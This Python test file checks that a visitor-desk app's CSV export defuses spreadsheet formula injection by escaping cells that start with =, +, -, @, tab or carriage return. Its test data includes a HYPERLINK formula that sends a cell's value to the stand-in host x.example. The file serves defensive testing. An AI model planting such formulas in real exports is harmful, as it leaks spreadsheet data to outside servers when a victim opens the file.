"""CSV files the desk writes never carry a formula a spreadsheet would run (OWASP's advice)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from serre_desk.render.spreadsheet_csv import SpreadsheetWriter, safe_cell
from serre_desk.storage.database import Database
from tests.conftest import CliRunner
from tests.report_helpers import at, someone, visit

DAY = date(2026, 11, 20)
ATTACKS = ['=HYPERLINK("http://x.example/?"&A1;"click")', "+39 333 1234", "-2+3", "@SUM(A1:A9)"]


def test_export_visits_neutralises_formulas_in_names_and_organisations(
    db: Database, cli: CliRunner, tmp_path: Path
) -> None:
    for index, attack in enumerate(ATTACKS):
        pid = someone(db, attack, organisation=attack)
        visit(db, pid, at(DAY, 9 + index), at(DAY, 10 + index))
    out = tmp_path / "visite.csv"
    done = cli("export", "visits", "--from", "2026-11-20", "--to", "2026-11-20", "--out", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline=""), delimiter=";"))
    names = [row[1] for row in rows[1:]]
    organisations = [row[3] for row in rows[1:]]
    assert names == organisations == ["'" + attack for attack in ATTACKS]
    assert all(row[7] == "60" and row[0].isdigit() for row in rows[1:])  # numbers stay numbers


def test_every_risky_first_character_is_neutralised_and_numbers_stay_readable() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell("Anna = Ricci") == "Anna = Ricci"
    assert safe_cell(-5) == -5 and safe_cell(12.5) == 12.5
    handle = io.StringIO()
    SpreadsheetWriter(handle).writerow([-5, "-5", "=1", 'a;"b"'])
    assert handle.getvalue() == '-5;\'-5;\'=1;"a;""b"""\r\n'
